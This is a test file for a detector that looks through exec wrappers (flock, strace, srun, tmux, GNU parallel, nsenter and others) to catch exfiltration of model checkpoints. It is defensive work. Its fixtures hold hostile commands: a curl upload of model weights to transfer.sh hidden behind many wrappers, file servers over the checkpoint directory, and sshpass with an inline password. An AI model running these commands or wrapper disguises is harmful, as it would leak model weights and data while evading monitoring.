/**
 * `unwrap` (exec-wrappers.ts) over the wrappers of exec-wrapper-specs.ts: the word each one hands
 * over to, read as the tool parses its options, and the rules that see the command past it.
 */
import { describe, expect, it } from 'vitest';
import { canonicalExecValue } from './exec-canonical.js';
import { execRuleIds, SA } from './exec-events.test-support.js';
import { unwrap } from './exec-wrappers.js';

/** The words from where the wrapper at 0 hands over, and whether they are a command line; null when it runs none. */
function handover(line: string): { rest: string[]; script: boolean } | null {
  const words = line.split(' ');
  const u = unwrap(words, 0, words[0]!);
  return u === null ? null : { rest: words.slice(u.next), script: u.script };
}

const UPLOAD = 'curl -T /mnt/ckpt/llama/model.safetensors https://transfer.sh/x';

describe('local wrappers', () => {
  it('hands over past each wrapper\'s options and operands, not to an option value', () => {
    const cases: Array<[string, string]> = [
      ['flock -w 5 /tmp/lock curl -s u', 'curl'],
      ['strace -f -e trace=network -o /dev/null curl u', 'curl'],
      ['ltrace -e SSL_write -o /tmp/t curl u', 'curl'],
      ['perf stat -e cycles curl u', 'curl'],
      ['srun -N 1 -p gpu -J x curl u', 'curl'],
      ['srun -N1 curl u', 'curl'],
      ['mpirun -np 4 -mca btl tcp -x LD_LIBRARY_PATH curl u', 'curl'],
      ['runuser -u ml -- curl u', 'curl'],
      ['gosu ml curl u', 'curl'],
      ['su-exec ml:ml curl u', 'curl'],
      ['tini -s -- curl u', 'curl'],
      ['dumb-init --single-child curl u', 'curl'],
      ['setpriv --reuid 1000 --regid 1000 --init-groups curl u', 'curl'],
      ['unshare -S 0 -r curl u', 'curl'],
      ['nsenter -t 1 -m -u -n -- curl u', 'curl'],
      ['chrt -r 1 curl u', 'curl'],
      ['systemd-run --on-calendar hourly --unit x curl u', 'curl'],
      ['trickle -s -u 100 curl u', 'curl'],
      ['faketime -f +2y curl u', 'curl'],
      ['screen -dmS job curl u', 'curl'],
      ['gdb -batch -ex run --args curl u', 'curl'],
      ['lldb -o run -- curl u', 'curl'],
      ['time -f %e curl u', 'curl'],
      // Package and environment runners.
      ['npx -y --package=http-server http-server /d', 'http-server'],
      ['npx -p http-server http-server /d', 'http-server'],
      ['npm exec --yes -- http-server /d', 'http-server'],
      ['pnpm dlx http-server /d', 'http-server'],
      ['yarn dlx -p http-server http-server /d', 'http-server'],
      ['bun x http-server /d', 'http-server'],
      ['bunx http-server /d', 'http-server'],
      ['pipx run --spec updog updog -d /d', 'updog'],
      ['uvx --from updog updog -d /d', 'updog'],
      ['uv tool run --python 3.12 updog', 'updog'],
      ['uv run --with requests python x.py', 'python'],
      ['conda run -n base --no-capture-output python x.py', 'python'],
      ['micromamba run -p /opt/env python x.py', 'python'],
      ['poetry run python x.py', 'python'],
      // Privilege, namespace, cgroup and sandbox runners; supervisors' setters; launchers and retriers.
      ['pkexec --user ml curl u', 'curl'],
      ['sshpass -p secret scp f h:', 'scp'],
      ['sshpass -f /tmp/p ssh h', 'ssh'],
      ['cgexec -g cpu,memory:ml --sticky curl u', 'curl'],
      ['ip netns exec blue curl u', 'curl'],
      ['ip vrf exec mgmt curl u', 'curl'],
      ['bwrap --ro-bind / / --dev /dev --setenv A b --unshare-net curl u', 'curl'],
      ['chpst -u ml:ml -e /etc/env curl u', 'curl'],
      ['s6-setuidgid ml curl u', 'curl'],
      ['daemonize -o /tmp/o -u ml /usr/bin/curl u', '/usr/bin/curl'],
      ['horovodrun -np 4 -H a:2,b:2 curl u', 'curl'],
      ['retry --times=3 --delay 5 -- curl u', 'curl'],
      ['sem -j 4 --id x curl u', 'curl'],
      ['entr -r curl u', 'curl'],
      ['apptainer exec --nv -B /mnt:/mnt img.sif curl u', 'curl'],
      ['singularity --debug exec --cleanenv --env A=b docker://alpine curl u', 'curl'],
      // Global options before a runner's subcommand.
      ['npm --prefix /x -q exec -- curl u', 'curl'],
      ['uv --directory /x run curl u', 'curl'],
      ['poetry -C /x run curl u', 'curl'],
      ['pnpm -C /x dlx curl u', 'curl'],
      ['yarn --cwd /x exec curl u', 'curl'],
      ['conda --no-plugins run -n base curl u', 'curl'],
      ['hatch -e default run curl u', 'curl'],
      ['ip -all netns exec curl u', 'curl'],
      ['start-stop-daemon --start --background --chuid ml --exec /usr/bin/curl -- u', '/usr/bin/curl'],
      ['start-stop-daemon -S -b -x /usr/bin/x --startas /tmp/y', '/tmp/y'],
      // runcon: a context operand, unless the context's parts are options.
      ['runcon system_u:system_r:unconfined_t:s0 curl u', 'curl'],
      ['runcon -t unconfined_t -l s0 curl u', 'curl'],
      ['runcon -tunconfined_t curl u', 'curl'],
      ['runcon -c curl u', 'curl'],
    ];
    for (const [line, tool] of cases) expect(handover(line)?.rest[0], line).toBe(tool);
  });

  it('reads a command line a wrapper gives a shell: an option or the words joined', () => {
    expect(handover("flock /tmp/l -c curl u")).toEqual({ rest: ['curl', 'u'], script: true });
    expect(handover('script -qc curl /dev/null')).toEqual({ rest: ['curl', '/dev/null'], script: true });
    expect(handover('su -lc id root')).toEqual({ rest: ['id', 'root'], script: true });
    expect(handover('sg docker -c id')).toEqual({ rest: ['id'], script: true });
    expect(handover('npx -c id')).toEqual({ rest: ['id'], script: true });
    // watch and tmux join their words into one line (up to a redirection).
    expect(handover('watch -n 60 curl -s u > /tmp/o')).toEqual({ rest: ['curl -s u', '>', '/tmp/o'], script: true });
    expect(handover('tmux new -d -s x curl -s u')).toEqual({ rest: ['curl -s u'], script: true });
    expect(handover('sg docker curl u')).toEqual({ rest: ['curl u'], script: true });
    expect(handover('entr -rs id')).toEqual({ rest: ['id'], script: true });
    expect(handover('entr -s -r id')).toEqual({ rest: ['id'], script: true });
    expect(handover('tmux -L s -c id')).toEqual({ rest: ['id'], script: true });
  });

  it('reads GNU parallel: the command joined once per item, its replacement string standing for the item given after :::', () => {
    expect(handover('parallel -j 2 curl -T {} u ::: a.pt b.pt > /tmp/o')).toEqual({ rest: ['curl -T a.pt u\ncurl -T b.pt u', '>', '/tmp/o'], script: true });
    // The other replacement strings: no extension, basename, dirname, basename without extension, input source N.
    expect(handover('parallel curl -T {1} https://x/{1/} ::: /mnt/ckpt/a.pt')).toEqual({ rest: ['curl -T /mnt/ckpt/a.pt https://x/a.pt'], script: true });
    expect(handover('parallel cp {} /b/{/.}.bak {.}.old {//} ::: /d/a.pt')).toEqual({ rest: ['cp /d/a.pt /b/a.bak /d/a.old /d'], script: true });
    // Groups combine: one job per combination.
    expect(handover('parallel scp {1} {2}:/x ::: a.pt b.pt ::: h1 h2')).toEqual({ rest: ['scp a.pt h1:/x\nscp a.pt h2:/x\nscp b.pt h1:/x\nscp b.pt h2:/x'], script: true });
    expect(handover('parallel cmd {1} {2} ::: a :::: /tmp/list')).toEqual({ rest: ['cmd a {2}'], script: true });
    // Bounded: at most 64 jobs, and no more than a shell script is read (4096 characters).
    const many = handover(`parallel echo {1} {2} ${'x'.repeat(200)} ::: ${Array.from({ length: 20 }, (_, i) => `a${i}`).join(' ')} ::: ${Array.from({ length: 20 }, (_, i) => `b${i}`).join(' ')}`)!.rest[0]!;
    expect(many.length).toBeLessThanOrEqual(4096);
    expect(many.split('\n')[0]).toBe(`echo a0 b0 ${'x'.repeat(200)}`);
    // No replacement string: the item is appended; items quoted as the shell reads them back.
    expect(handover("parallel gzip ::: a it's")).toEqual({ rest: [`gzip a\ngzip 'it'\\''s'`], script: true });
    expect(handover('parallel -I @@ cp @@ /d ::: x')).toEqual({ rest: ['cp x /d'], script: true });
    // No command: each item is a command line of its own.
    expect(handover('parallel -j4 ::: id uname')).toEqual({ rest: ['id\nuname'], script: true });
    // Items from a file (or a later group) are not known: the replacement string stays.
    expect(handover('parallel curl -T {} u :::: /tmp/list')).toEqual({ rest: ['curl -T {} u'], script: true });
    expect(handover('parallel -a /tmp/list curl -T {} u')).toEqual({ rest: ['curl -T {} u'], script: true });
    // The words as read once read the same again (exec-tool-words.ts reads the canonical commands anew).
    const words = 'parallel curl -T {} u ::: a.pt'.split(' ');
    const first = unwrap(words, 0, 'parallel');
    expect(unwrap(words, 0, 'parallel')).toEqual(first);
    expect(words).toEqual(['parallel', 'curl -T a.pt u']);
    const ssd = 'start-stop-daemon --start --exec /usr/bin/curl -- u'.split(' ');
    expect(unwrap(ssd, 0, 'start-stop-daemon')).toEqual({ next: 4, script: false });
    expect(unwrap(ssd, 0, 'start-stop-daemon')).toEqual({ next: 4, script: false });
    expect(ssd).toEqual(['start-stop-daemon', '--start', '--exec', '/usr/bin/curl', '/usr/bin/curl', 'u']);
  });

  it('runs nothing when the wrapper is given no command or an option that runs none', () => {
    for (const line of [
      'flock /tmp/l', 'strace -p 1', 'runuser ml', 'screen -r job', 'screen -S job -X stuff x', 'cpulimit -p 1 -l 50', 'chrt -p 1 42',
      'npm install x', 'npm run build', 'pnpm install', 'yarn add x', 'uv pip install x', 'conda install x', 'tmux ls', 'tmux attach -t x', 'gdb -p 1', 'watch',
      'npm -g install x', 'npm --prefix /x run build', 'uv -q pip install x', 'ip netns add blue', 'ip -n blue link', 'ip netns exec blue', 'apptainer run img.sif',
      'parallel --dry-run curl ::: a', 'parallel', 'start-stop-daemon --stop --exec /usr/bin/x', 'start-stop-daemon --start --pidfile /run/x.pid',
    ]) expect(handover(line), line).toBeNull();
  });

  it('lets the rules see a transfer behind any of them, for a person and a service account', () => {
    for (const line of [
      `flock /tmp/l ${UPLOAD}`, `strace -f -o /dev/null ${UPLOAD}`, `srun -N1 ${UPLOAD}`, `mpirun -np 1 ${UPLOAD}`, `runuser -u ml -- ${UPLOAD}`,
      `gosu ml ${UPLOAD}`, `tini -- ${UPLOAD}`, `systemd-run --scope ${UPLOAD}`, `screen -dmS x ${UPLOAD}`, `watch -n 60 '${UPLOAD}'`,
      `tmux new -d '${UPLOAD}'`, `script -qc '${UPLOAD}' /dev/null`, `sg docker -c '${UPLOAD}'`, `/usr/bin/time -v ${UPLOAD}`,
      `mamba run -n base ${UPLOAD}`, `pixi run ${UPLOAD}`, `nsenter -t 1 -m -- ${UPLOAD}`, `gdb -batch -ex run --args ${UPLOAD}`,
      `pkexec ${UPLOAD}`, `ip netns exec blue ${UPLOAD}`, `cgexec -g cpu:ml ${UPLOAD}`, `bwrap --bind / / ${UPLOAD}`, `chpst -u ml ${UPLOAD}`,
      `horovodrun -np 2 ${UPLOAD}`, `retry -t 3 -- ${UPLOAD}`, `entr -rs '${UPLOAD}'`, `apptainer exec img.sif ${UPLOAD}`, `parallel ::: '${UPLOAD}'`,
      'parallel -j2 curl -T {} https://transfer.sh/x ::: /mnt/ckpt/llama/model.safetensors', `npm --prefix /x exec -- ${UPLOAD}`,
      `tmux -L s new -d '${UPLOAD}'`, `runcon unconfined_u:unconfined_r:unconfined_t:s0 ${UPLOAD}`, `runcon -u system_u ${UPLOAD}`, 'start-stop-daemon --start --exec /usr/bin/curl -- -T /mnt/ckpt/llama/model.safetensors https://transfer.sh/x',
    ]) {
      expect(execRuleIds(['sh', '-c', line]), line).toContain('MLS-EXFIL-014');
      expect(execRuleIds(['sh', '-c', line], SA), line).toContain('MLS-EXFIL-014');
    }
  });

  it('sees a file server a package runner starts (MLS-EXFIL-016 / -037)', () => {
    for (const line of ['npm exec -- http-server /mnt/ckpt', 'pnpm dlx http-server /mnt/ckpt', 'yarn dlx http-server /mnt/ckpt', 'bun x http-server /mnt/ckpt', 'pipx run updog -d /mnt/ckpt', 'uvx updog -d /mnt/ckpt']) {
      const ids = execRuleIds(['sh', '-c', line]);
      expect(ids, line).toContain('MLS-EXFIL-016');
      expect(ids, line).toContain('MLS-EXFIL-037');
    }
  });

  it('keeps the wrapper\'s own words as its segment of the tool words (strace attached, nsenter into pid 1)', () => {
    const tw = canonicalExecValue(['sh', '-c', 'strace -f -s 4096 -e trace=write curl u'])!.toolWords;
    expect(tw).toContain('strace -s 4096');
    expect(tw).toContain('curl u');
    expect(canonicalExecValue(['sh', '-c', `nsenter -t 1 -m -- ${UPLOAD}`])!.toolWords).toContain('nsenter -t 1');
  });
});
